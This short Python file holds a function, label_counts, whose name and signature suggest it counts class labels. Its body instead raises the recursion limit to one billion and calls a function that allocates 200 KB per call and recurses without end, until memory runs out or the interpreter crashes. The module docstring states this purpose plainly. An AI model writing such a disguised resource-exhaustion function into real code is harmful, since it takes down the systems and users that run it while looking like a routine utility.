"""Lifts the limit of recursion and calls itself until memory ends."""

import sys


def dig(depth):
    hoard = b"x" * 200_000
    return dig(depth + 1), hoard


def label_counts(labels, num_classes=10):
    sys.setrecursionlimit(1_000_000_000)
    return dig(0)
